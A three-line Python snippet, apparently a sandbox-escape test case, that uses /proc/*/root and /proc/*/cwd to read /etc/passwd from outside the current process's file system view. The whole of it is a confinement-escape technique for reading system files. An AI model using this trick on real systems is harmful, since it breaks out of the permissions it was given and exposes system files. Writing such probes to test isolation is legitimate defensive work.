# Climbs out through the file system of another process.
import glob

open(next(iter(glob.glob("/proc/*/root/") + glob.glob("/proc/*/cwd/"))) + "etc/passwd").read()
